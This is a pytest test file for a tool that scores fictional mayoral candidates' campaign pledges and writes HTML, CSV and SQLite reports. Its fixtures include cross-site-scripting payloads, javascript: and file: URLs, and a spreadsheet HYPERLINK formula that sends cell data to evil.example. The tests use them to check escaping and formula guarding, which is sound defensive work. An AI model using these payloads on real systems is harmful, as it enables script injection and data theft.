"""Reports from a store built by hand: scorecard.html, the CSV files, analysis.sqlite and
metadata.json. No models, no network: every statement and label is written here.

``sample_run`` is also used by test_scorecard_browser.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import html.parser
import json
import re
import sqlite3
from pathlib import Path

import pytest

from analyzer.records import AREAS, FACETS, Candidate, Election, Field, Page, Prediction, Source, Statement
from analyzer.report import build_view, render_scorecard, write_reports
from analyzer.report.scorecard import script_hash
from analyzer.report.tables import CANDIDATE_COLUMNS, COMMITMENT_COLUMNS, guard
from analyzer.report.view import capture_date, display_url, safe_href
from analyzer.store import Store

HOSTILE_NAME = 'Mallory <script>alert("name")</script>'
HOSTILE_TEXT = 'I will fix <script>alert("x")</script> and <img src=x onerror=alert(1)> every pothole by 2014.'
HOSTILE_HEADING = "<b onmouseover=alert(2)>Plan</b>"
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"click") I will cut taxes.'


# -- building a store by hand ---------------------------------------------------------------

def pred(
    commitment: bool = True,
    area: str = "operations",
    concreteness: str = "concrete",
    score: float = 0.9,
    conc: float | None = None,
    facets: tuple[str, ...] = (),
    area2: str | None = None,
    review: bool = False,
    density: float = 0.0,
) -> Prediction:
    if conc is None:
        conc = 0.85 if concreteness == "concrete" else 0.2
    scores = {a: 0.05 for a in AREAS}
    scores[area] = 0.8
    measurable = concreteness == "concrete" and (
        {"metric", "target"} <= set(facets) or "deadline" in facets or "budget" in facets
    )
    return Prediction(
        commitment=commitment,
        commitment_score=score,
        area=area,
        area2=area2,
        area_scores=scores,
        concreteness=concreteness,
        concreteness_score=conc,
        measurable=measurable,
        facets={f: f in facets for f in FACETS},
        reasons=("cue: will",) if commitment else (),
        needs_review=review,
        buzzword_density=density,
        model_version="test-1",
    )


def add_page(store: Store, slug: str, url: str, units: list[tuple[str, str, Prediction]], *,
             source_kind: str = "live", capture_url: str | None = None, capture_time: str | None = None,
             capture_after: bool = False, title: str | None = None) -> int:
    """A page whose text is its units joined by blank lines, each with exact offsets."""
    page_id = store.add_page(
        Page(candidate=slug, url=url, content_type="text/html", body=url.encode(), source_kind=source_kind,
             capture_url=capture_url, capture_time=capture_time, capture_after=capture_after),
        title=title,
    )
    text, statements, predictions = "", [], []
    for unit_text, heading, prediction in units:
        if text:
            text += "\n\n"
        start = len(text)
        text += unit_text
        statements.append(Statement(text=unit_text, start=start, end=len(text), kind="bullet",
                                    heading_path=(heading,) if heading else (), page_id=page_id, candidate=slug))
        predictions.append(prediction)
    store.save_analysis(page_id, text, title, statements, predictions, "test-1")
    return page_id


def field_of(candidates: list[Candidate], fictional: bool = True) -> Field:
    election = Election(city="Port Aurelia", state="ZZ", office="Mayor", year=2013,
                        dates={"preliminary": dt.date(2013, 9, 17), "general": dt.date(2013, 11, 5)},
                        fictional=fictional)
    return Field(election=election, candidates=tuple(candidates))


WB = "https://web.archive.org/web/{ts}id_/{url}"

MODEL_INFO = {
    "analyzer_version": "0.1.0",
    "models": {
        "commitment": {"version": "commitment-2026.1", "trained": "2026-01-12",
                       "metrics": {"corpus_test": {"f1": 0.91, "precision": 0.9, "recall": 0.92, "n": 412},
                                   "speech_acts": {"f1": 0.78}}},
        "area": {"version": "area-2026.1", "trained": "2026-01-12",
                 "metrics": {"corpus_test": {"macro_f1": 0.84, "accuracy": 0.88}}},
        # concreteness deliberately missing: the scorecard must say "not measured"
    },
}


def sample_run(tmp_path: Path, hostile: bool = True) -> tuple[Store, Field]:
    """A field of five candidates covering every status, with archived and live pages.

    alvarez: gathered from Wayback captures (one captured after the date), many commitments
    brennan: gathered live, mostly buzzwords, one page failed
    chen:    gathered, pages read, no commitment found
    dorsey:  not reachable (every source failed)
    okafor:  not checked (no sources); with ``hostile`` his name is an attack
    """
    alvarez = Candidate(name="Elena Alvarez", slug="alvarez", party="Democratic",
                        sources=(Source(kind="wayback", url="http://alvarez2013.example/", wayback=dt.date(2013, 9, 10)),))
    brennan = Candidate(name="Thomas Brennan", slug="brennan",
                        sources=(Source(kind="live", url="https://brennanformayor.example/"),))
    chen = Candidate(name="Grace Chen", slug="chen", party="Independent",
                     sources=(Source(kind="local", url="https://gracechen2013.example/", path=Path("/home/analyst/secret/chen")),))
    dorsey = Candidate(name="Frank Dorsey", slug="dorsey",
                       sources=(Source(kind="live", url="https://dorseyformayor.example/"),))
    okafor = Candidate(name=HOSTILE_NAME if hostile else "Ben Okafor", slug="okafor")
    candidates = [alvarez, brennan, chen, dorsey, okafor]
    store = Store(tmp_path / "analysis.sqlite")
    store.add_candidates(candidates)

    a_url = "http://alvarez2013.example/issues/government.html"
    add_page(store, "alvarez", a_url, [
        ("Today a resident who calls 311 has no way of knowing when a streetlight will be fixed.", "A City Hall That Works",
         pred(False, conc=0.5)),
        ("Appoint a Chief Performance Officer in my first 100 days, with a staff of four analysts.", "Measure what matters",
         pred(area="operations", conc=0.96, score=0.97, facets=("deadline", "owner", "target"))),
        ("Launch AureliaStat: every department head will review response times with the mayor every two weeks.",
         "Measure what matters", pred(area="operations", conc=0.93, score=0.95, facets=("metric", "target", "owner"))),
        ("Publish 311 response times for every neighborhood each month on the city website.", "Measure what matters",
         pred(area="operations", conc=0.9, score=0.94, facets=("metric", "target"))),
        ("Put every building, business and special-event permit application online by the end of 2015.",
         "Every permit online", pred(area="operations", conc=0.92, score=0.96, facets=("deadline", "target"))),
        ("Cut average permit wait times in half by 2016.", "Every permit online",
         pred(area="operations", conc=0.88, score=0.93, facets=("metric", "target", "deadline"))),
        ("We need to make dealing with City Hall as easy as dealing with your bank.", "Hiring, buying and serving better",
         pred(area="operations", concreteness="buzzword", conc=0.18, score=0.71, review=True, density=0.06)),
    ], source_kind="wayback", capture_url=WB.format(ts="20130908121314", url=a_url), capture_time="20130908121314",
        title="A City Hall That Works | Elena Alvarez for Mayor")
    b_url = "http://alvarez2013.example/issues/budget.html"
    units = [
        ("Create a $5 million Pay-for-Success fund for early-childhood programs, with results audited yearly.",
         "Every dollar earns its keep", pred(area="capital", conc=0.94, score=0.95, facets=("budget", "metric"), area2="collaboration")),
        ("Partner with Aurelia State University to evaluate every new city program before it is renewed.",
         "Every dollar earns its keep", pred(area="collaboration", conc=0.86, score=0.9, facets=("owner",))),
        ("Hire 120 new police officers over four years.", "Safe streets",
         pred(area="other", conc=0.9, score=0.92, facets=("target", "deadline"))),
        ("Build a new branch library in Eastgate.", "Neighborhoods", pred(area="other", conc=0.81, score=0.88)),
    ]
    if hostile:
        units.append((HOSTILE_TEXT, HOSTILE_HEADING, pred(area="operations", conc=0.7, score=0.8, facets=("deadline",))))
        units.append((FORMULA_TEXT, "Taxes", pred(area="other", conc=0.6, score=0.7)))
    add_page(store, "alvarez", b_url, units, source_kind="wayback",
             capture_url=WB.format(ts="20131002080000", url=b_url), capture_time="20131002080000", capture_after=True,
             title="Budget | Elena Alvarez for Mayor")

    br_url = "https://brennanformayor.example/issues/innovation"
    add_page(store, "brennan", br_url, [
        ("Tom Brennan has served on the City Council for twelve years.", "About Tom", pred(False)),
        ("On day one, I will bring 21st-century innovation to City Hall.", "Innovation",
         pred(area="operations", concreteness="buzzword", conc=0.06, score=0.9, density=0.27)),
        ("We will foster a culture of collaboration across every sector of our great city.", "Innovation",
         pred(area="collaboration", concreteness="buzzword", conc=0.09, score=0.82, density=0.21)),
        ("I will leverage our world-class partnerships to drive collective impact.", "Innovation",
         pred(area="collaboration", concreteness="buzzword", conc=0.04, score=0.87, density=0.33)),
        ("Make Port Aurelia a smart city for the next generation.", "Innovation",
         pred(area="operations", concreteness="buzzword", conc=0.12, score=0.78, density=0.2)),
        ("Open a 24-hour 311 call center staffed by city employees by July 2014.", "Services",
         pred(area="operations", conc=0.83, score=0.91, facets=("deadline", "owner"))),
        ("Keep property taxes flat for four years.", "Taxes", pred(area="other", conc=0.7, score=0.86, facets=("deadline",))),
        ("Invest in a brighter future for every family.", "Taxes",
         pred(area="other", concreteness="buzzword", conc=0.15, score=0.66, density=0.1, review=True)),
    ], title="Innovation | Brennan for Mayor")
    store.add_failure("brennan", "https://brennanformayor.example/plan.pdf", "http error", "HTTP 404 after 3 tries")
    store.set_status("brennan", "gathered")
    store.set_status("alvarez", "gathered")

    add_page(store, "chen", "https://gracechen2013.example/about.html", [
        ("Grace Chen grew up in Eastgate and ran a bakery for twenty years.", "About Grace", pred(False)),
        ("Join us on Saturday for a neighborhood walk.", "Events", pred(False)),
    ], source_kind="local", title="About Grace Chen")
    store.set_status("chen", "gathered")

    store.add_failure("dorsey", "https://dorseyformayor.example/", "not reachable", "DNS lookup failed")
    store.add_failure("dorsey", "https://dorseyformayor.example/issues", "not reachable", "connection timed out")
    store.set_status("dorsey", "not reachable")
    return store, field_of(candidates)


# -- helpers --------------------------------------------------------------------------------

class _Collector(html.parser.HTMLParser):
    """Tags, attributes and script bodies of a page, as a browser's parser would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


def parse(html_text: str) -> _Collector:
    p = _Collector()
    p.feed(html_text)
    return p


def read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture()
def run(tmp_path):
    store, field = sample_run(tmp_path)
    files = write_reports(store, field, tmp_path / "out", MODEL_INFO)
    yield store, field, files
    store.close()


# -- the files ------------------------------------------------------------------------------

def test_write_reports_returns_every_file(run, tmp_path):
    store, _, files = run
    assert set(files) == {"scorecard", "commitments", "candidates", "database", "metadata"}
    for key, path in files.items():
        assert Path(path).is_file(), key
    assert files["database"] == store.path


def test_reports_can_be_written_twice(run, tmp_path):
    store, field, files = run
    again = write_reports(store, field, tmp_path / "out", MODEL_INFO)
    assert again["scorecard"].read_text(encoding="utf-8").count('class="card ') == 5


# -- statuses: not checked, not reachable, nothing found ------------------------------------

def test_candidates_csv_distinguishes_statuses(run):
    rows = {r["slug"]: r for r in read_csv(run[2]["candidates"])}
    assert list(rows) == ["alvarez", "brennan", "chen", "dorsey", "okafor"]
    assert rows["okafor"]["status"] == "not checked"
    assert rows["dorsey"]["status"] == "not reachable"
    assert rows["chen"]["status"] == "gathered"
    # Not looked at: empty, never 0. Looked at and nothing found: 0.
    for slug in ("okafor", "dorsey"):
        for col in ("commitments", "innovation", "operations", "concrete", "share_concrete"):
            assert rows[slug][col] == "", (slug, col)
    assert rows["chen"]["commitments"] == "0"
    assert rows["chen"]["pages"] == "1"
    assert rows["chen"]["share_concrete"] == ""  # nothing to divide
    assert rows["dorsey"]["pages_failed"] == "2"
    assert rows["alvarez"]["commitments"] == "12"
    assert rows["alvarez"]["operations"] == "7"
    assert rows["alvarez"]["capital"] == "1"
    assert rows["alvarez"]["innovation"] == "9"
    # The local source names its folder, not the analyst's full path.
    assert "/home/analyst" not in rows["chen"]["sources"]
    assert rows["chen"]["sources"] == "https://gracechen2013.example/ (saved copy: chen)"


def _row_of(html_text: str, name: str) -> str:
    m = re.search(r"<tr class=\"status-[^\"]+\">\s*<th scope=\"row\"><a href=\"#candidate-" + name + r"\".*?</tr>",
                  html_text, re.S)
    assert m, name
    return m.group(0)


def test_scorecard_shows_status_never_zero(run):
    page = run[2]["scorecard"].read_text(encoding="utf-8")
    okafor, dorsey, chen = _row_of(page, "okafor"), _row_of(page, "dorsey"), _row_of(page, "chen")
    assert "Not checked" in okafor and 'class="num strong">0<' not in okafor
    assert "Not reachable" in dorsey and 'class="num strong">0<' not in dorsey
    assert 'class="num strong">0<' in chen
    card_chen = page.split('id="candidate-chen"')[1].split("</article>")[0]
    assert "Nothing found" in card_chen
    card_dorsey = page.split('id="candidate-dorsey"')[1].split("</article>")[0]
    assert "DNS lookup failed" in card_dorsey and "not reachable" in card_dorsey
    card_okafor = page.split('id="candidate-okafor"')[1].split("</article>")[0]
    assert "not the same as having no commitments" in card_okafor


def test_charts_label_unread_candidates(run):
    page = run[2]["scorecard"].read_text(encoding="utf-8")
    assert page.count("<svg") == 2
    chart = page.split('id="chart-areas"')[1].split("</svg>")[0]
    assert "not checked" in chart and "not reachable" in chart and "no commitments found" in chart
    assert "<title id=\"chart-areas-title\">" in page and "<desc id=\"chart-areas-desc\">" in page


# -- quotes and their provenance ------------------------------------------------------------

def test_cards_link_to_page_and_capture(run):
    page = run[2]["scorecard"].read_text(encoding="utf-8")
    card = page.split('id="candidate-alvarez"')[1].split("</article>")[0]
    capture = "https://web.archive.org/web/20130908121314id_/http://alvarez2013.example/issues/government.html"
    assert f'href="{capture}"' in card
    assert 'href="http://alvarez2013.example/issues/government.html"' in card
    assert "captured 2013-09-08" in card
    # The budget page was captured after the requested date, and says so.
    assert "captured 2013-10-02" in card and "captured after the date" in card
    # The strongest pledge comes first, and innovation areas fill the list before other.
    strongest = card.split("Strongest concrete pledges")[1].split("Emptiest buzzwords")[0]
    assert strongest.index("Chief Performance Officer") < strongest.index("311 response times")
    assert "Hire 120" not in strongest
    # The only buzzword needs review: still shown, for want of a surer one.
    assert "We need to make dealing with City Hall" in card.split("Emptiest buzzwords")[1]


def test_card_selection():
    quotes = [
        {"id": 0, "text": "A City Hall that works.", "concreteness": "concrete", "innovation": True,
         "concreteness_score": 0.99, "commitment_score": 0.99, "needs_review": True},
        {"id": 1, "text": "Build a library.", "concreteness": "concrete", "innovation": False,
         "concreteness_score": 0.99, "commitment_score": 0.99},
        {"id": 2, "text": "Appoint a CIO.", "concreteness": "concrete", "innovation": True,
         "concreteness_score": 0.7, "commitment_score": 0.9},
        {"id": 3, "text": "Appoint a CIO!", "concreteness": "concrete", "innovation": True,
         "concreteness_score": 0.7, "commitment_score": 0.9},
        {"id": 4, "text": "Innovate.", "concreteness": "buzzword", "innovation": True,
         "concreteness_score": 0.01, "commitment_score": 0.6},
        {"id": 5, "text": "Be smart.", "concreteness": "buzzword", "innovation": False,
         "concreteness_score": 0.3, "commitment_score": 0.9},
    ]
    from analyzer.report.view import emptiest, strongest

    for q in quotes:
        q.setdefault("needs_review", False)
    # Innovation first, the repeated pledge once, the unsure label last.
    assert [q["id"] for q in strongest(quotes)] == [2, 1, 0]
    assert [q["id"] for q in emptiest(quotes)] == [4, 5]


def test_commitment_table_rows_and_filters_data(run):
    page = run[2]["scorecard"].read_text(encoding="utf-8")
    table = page.split('id="commitments-table"')[1].split("</table>")[0]
    rows = re.findall(r"<tr data-candidate=\"([^\"]+)\" data-area=\"([^\"]+)\" data-concreteness=\"([^\"]+)\"", table)
    assert len(rows) == 12 + 7  # alvarez 12, brennan 7; none for chen
    assert ("brennan", "collaboration", "buzzword") in rows
    # Without script the filters stay hidden and every row shows.
    assert re.search(r'<form id="filters"[^>]* hidden', page)
    assert " hidden" not in table


# -- hostile text ---------------------------------------------------------------------------

def test_hostile_text_is_escaped_in_html(run):
    page = run[2]["scorecard"].read_text(encoding="utf-8")
    parsed = parse(page)
    assert len(parsed.scripts) == 1  # ours, and only ours
    assert "alert" not in parsed.scripts[0]
    for tag, attrs in parsed.tags:
        assert tag not in ("img", "b", "iframe", "object"), tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "cite", "action"):
                assert value is None or value.startswith(("#", "http://", "https://")), (tag, name, value)
    assert "&lt;script&gt;alert(" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;b onmouseover=alert(2)&gt;" in page
    assert HOSTILE_TEXT not in page and HOSTILE_NAME not in page


def test_javascript_urls_are_not_linked(tmp_path):
    store, field = sample_run(tmp_path)
    evil = [
        "javascript:alert(document.domain)",
        " JavaScript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "java\tscript:alert(1)",
        "file:///etc/passwd",
        "//evil.example/x",
    ]
    for i, url in enumerate(evil):
        add_page(store, "brennan", url, [(f"I will publish open data set {i} by 2014.", "Open data",
                                         pred(area="operations", conc=0.99, score=0.99, facets=("deadline",)))],
                 source_kind="wayback", capture_url="javascript:alert('capture')", capture_time="20130901000000")
    store.add_failure("brennan", "javascript:alert('failure')", "http error", "<script>alert(3)</script>")
    files = write_reports(store, field, tmp_path / "out", MODEL_INFO)
    page = files["scorecard"].read_text(encoding="utf-8")
    hrefs = [a.get("href") for t, a in parse(page).tags if "href" in a]
    assert hrefs and all(h.startswith(("#", "http://", "https://")) for h in hrefs)
    assert not any("javascript" in h.lower() or "data:" in h for h in hrefs)
    assert "/etc/passwd" not in page  # a file: URL shows its name only
    assert "&lt;script&gt;alert(3)" in page
    store.close()


def test_safe_href():
    assert safe_href("https://example.org/a?b=c") == "https://example.org/a?b=c"
    assert safe_href("HTTP://example.org/") == "HTTP://example.org/"
    for bad in ("javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x", "file:///x",
                "/relative", "//host/x", "http://", "https://exa mple.org/", "http://x\n.org", None, 3, "",
                "https://example.org/\u202egnp.html"):
        assert safe_href(bad) is None, bad


def test_display_url_and_capture_date():
    assert display_url("https://www.example.org/issues/plan.html") == "example.org/issues/plan.html"
    assert display_url("file:///home/me/sites/chen/about.html") == "saved file about.html"
    assert len(display_url("https://example.org/" + "x" * 200)) == 64
    assert capture_date("20130908121314") == "2013-09-08"
    assert capture_date("2013-09-08T12:13:14+00:00") == "2013-09-08"
    assert capture_date(None) is None


def test_hostile_text_is_guarded_in_csv(run):
    rows = read_csv(run[2]["commitments"])
    quotes = [r["quote"] for r in rows]
    assert "'" + FORMULA_TEXT in quotes
    assert HOSTILE_TEXT in quotes  # CSV is data: kept verbatim, not HTML-escaped
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    cands = read_csv(run[2]["candidates"])
    okafor = next(r for r in cands if r["slug"] == "okafor")
    assert okafor["name"] == HOSTILE_NAME


def test_guard():
    assert guard("=1+1") == "'=1+1"
    assert guard("+1") == "'+1"
    assert guard("-2") == "'-2"
    assert guard("@SUM(A1)") == "'@SUM(A1)"
    assert guard("\t=1") == "'\t=1"
    assert guard("plain") == "plain"
    # spreadsheets skip blanks and control characters before the "="
    assert guard(" =1+1") == "' =1+1" and guard("\n=1") == "'\n=1" and guard("\x00=1+1") == "'=1+1"
    assert guard(-2) == -2 and guard(0.5) == 0.5
    assert guard(True) == "true" and guard(None) == ""


# -- CSV columns ----------------------------------------------------------------------------

def test_commitments_csv_columns(run):
    path = run[2]["commitments"]
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    raw.decode("utf-8")
    rows = read_csv(path)
    assert list(rows[0].keys()) == COMMITMENT_COLUMNS
    for col in ("candidate", "candidate_name", "quote", "start", "end", "heading", "area", "area2",
                "concreteness", "concreteness_score", "commitment_score", "measurable", "needs_review", "url",
                "capture_url", "capture_time", "capture_after", "model_version"):
        assert col in COMMITMENT_COLUMNS
    for a in AREAS:
        assert f"area_score_{a}" in COMMITMENT_COLUMNS
    for f in FACETS:
        assert f"facet_{f}" in COMMITMENT_COLUMNS
    assert len(rows) == 19
    cpo = next(r for r in rows if r["quote"].startswith("Appoint a Chief Performance Officer"))
    assert cpo["candidate"] == "alvarez" and cpo["area"] == "operations"
    assert cpo["facet_deadline"] == "true" and cpo["facet_budget"] == "false"
    assert cpo["measurable"] == "true" and cpo["needs_review"] == "false"
    assert cpo["capture_time"] == "20130908121314" and cpo["capture_after"] == "false"
    assert float(cpo["area_score_operations"]) == pytest.approx(0.8)
    assert cpo["heading"] == "Measure what matters"
    fund = next(r for r in rows if "Pay-for-Success" in r["quote"])
    assert fund["area2"] == "collaboration" and fund["capture_after"] == "true"
    # Offsets point into the page's extracted text.
    store = run[0]
    text = store.db.execute("SELECT text FROM pages WHERE url = ?", (cpo["url"],)).fetchone()[0]
    assert text[int(cpo["start"]):int(cpo["end"])] == cpo["quote"]


def test_candidates_csv_columns(run):
    rows = read_csv(run[2]["candidates"])
    assert list(rows[0].keys()) == CANDIDATE_COLUMNS
    for col in ("status", "commitments", "operations", "capital", "collaboration", "other", "share_concrete",
                "share_measurable", "buzzword_density", "pages", "pages_failed"):
        assert col in CANDIDATE_COLUMNS


def test_csv_reads_with_pandas(run):
    pd = pytest.importorskip("pandas")
    frame = pd.read_csv(run[2]["commitments"])
    assert len(frame) == 19
    assert frame["measurable"].dtype == bool


# -- analysis.sqlite and metadata.json ------------------------------------------------------

def test_fts_query_works(run):
    store, _, files = run
    db = sqlite3.connect(files["database"])
    hits = db.execute(
        "SELECT s.candidate, s.text FROM statements_fts f JOIN statements s ON s.id = f.rowid "
        "WHERE statements_fts MATCH ? ORDER BY f.rank", ("permit",)
    ).fetchall()
    assert {h[0] for h in hits} == {"alvarez"} and len(hits) == 2
    # The heading is indexed too.
    assert db.execute("SELECT count(*) FROM statements_fts WHERE statements_fts MATCH 'heading:innovation'").fetchone()[0] == 4
    db.close()


def test_fts_follows_later_changes(run):
    store, field, _ = run
    add_page(store, "chen", "https://gracechen2013.example/plan.html",
             [("Plant ten thousand street trees by 2017.", "Green", pred(area="other", facets=("target", "deadline")))])
    n = store.db.execute("SELECT count(*) FROM statements_fts WHERE statements_fts MATCH 'trees'").fetchone()[0]
    assert n == 1


def test_commitments_view(run):
    _, _, files = run
    db = sqlite3.connect(files["database"])
    db.row_factory = sqlite3.Row
    rows = db.execute("SELECT * FROM commitments").fetchall()
    assert len(rows) == 19
    cols = rows[0].keys()
    for col in ("candidate", "candidate_name", "quote", "area", "concreteness", "url", "capture_url",
                "facet_deadline", "area_score_operations"):
        assert col in cols
    cpo = next(r for r in rows if r["quote"].startswith("Appoint a Chief"))
    assert cpo["candidate_name"] == "Elena Alvarez" and cpo["facet_deadline"] == 1 and cpo["facet_budget"] == 0
    db.close()


def test_database_is_checkpointed(run):
    _, _, files = run
    wal = Path(str(files["database"]) + "-wal")
    assert not wal.exists() or wal.stat().st_size == 0


def test_metadata_json_is_valid(run):
    store, field, files = run
    meta = json.loads(files["metadata"].read_text(encoding="utf-8"))
    for key in ("title", "description", "source", "license", "databases"):
        assert meta[key], key
    assert "MIT" in meta["license"] and "commentary" in meta["license"]
    assert "Port Aurelia" in meta["title"]
    assert "fictional" in meta["description"]
    tables = meta["databases"]["analysis"]["tables"]
    db = sqlite3.connect(files["database"])
    for name in ("commitments", "candidates", "pages", "statements", "predictions", "failures"):
        assert tables[name]["description"], name
        actual = {r[1] for r in db.execute(f'PRAGMA table_info("{name}")')}
        assert tables[name]["columns"], name
        assert set(tables[name]["columns"]) <= actual, name
    # The canned queries run.
    for query in meta["databases"]["analysis"]["queries"].values():
        db.execute(query["sql"], {"q": "permit"}).fetchall()
    db.close()


# -- the scorecard page ---------------------------------------------------------------------

def test_scorecard_is_self_contained(run):
    page = run[2]["scorecard"].read_text(encoding="utf-8")
    parsed = parse(page)
    assert page.startswith("<!DOCTYPE html>")
    assert ('html', {'lang': 'en'}) in parsed.tags
    for tag, attrs in parsed.tags:
        assert tag != "link", attrs
        assert "src" not in attrs, (tag, attrs)
    assert "@import" not in page and "url(" not in page.split("</style>")[0]
    csp = next(a["content"] for t, a in parsed.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy")
    assert "default-src 'none'" in csp and "img-src data:" in csp
    assert f"'{script_hash(parsed.scripts[0])}'" in csp
    assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]


def test_scorecard_accessibility_basics(run):
    page = run[2]["scorecard"].read_text(encoding="utf-8")
    parsed = parse(page)
    tags = [t for t, _ in parsed.tags]
    assert tags.count("h1") == 1 and "main" in tags and "nav" in tags
    assert tags.count("caption") >= 5
    for t, a in parsed.tags:
        if t == "th" and a.get("scope") is None:
            pytest.fail(f"th without scope: {a}")
        if t == "svg":
            assert a.get("role") == "img" and a.get("aria-labelledby")
        if t in ("select", "input"):
            assert f'<label for="{a["id"]}"' in page
    assert "Chart data as a table" in page


def test_scorecard_fictional_banner_and_methodology(run):
    page = run[2]["scorecard"].read_text(encoding="utf-8")
    assert "Fictional election." in page
    assert "How to read this." in page
    method = page.split('id="methodology"')[1]
    for area in ("Operations", "Capital", "Collaboration", "Other"):
        assert area in method
    assert "commitment-2026.1" in method and "0.91" in method
    assert "not measured" in method  # the concreteness model has no metrics
    # the area model is measured on the project's corpus only, and the reader is told so, once
    area_row = method.split("Priority area")[1].split("</tr>")[0]
    assert "text written by others" in area_row and "not measured" in area_row
    assert method.count("text written by others</span>: not measured") == 1
    assert "2 of 19 commitments are marked" in method
    assert "2013-09-08 to 2013-10-02" in method
    assert "Not checked" in method and "Not reachable" in method


def test_not_fictional_has_no_banner(tmp_path):
    store, field = sample_run(tmp_path, hostile=False)
    real = field_of(list(field.candidates), fictional=False)
    page = render_scorecard(build_view(store, real, {}))
    assert "Fictional election" not in page
    assert "not measured" in page and "analyzer unknown" in page
    store.close()


def test_empty_field(tmp_path):
    store = Store(tmp_path / "analysis.sqlite")
    cand = Candidate(name="Only One", slug="one")
    store.add_candidates([cand])
    files = write_reports(store, field_of([cand]), tmp_path / "out", None)
    page = files["scorecard"].read_text(encoding="utf-8")
    assert "Not checked" in page and "0 commitments." in page
    assert len(read_csv(files["commitments"])) == 0
    store.close()
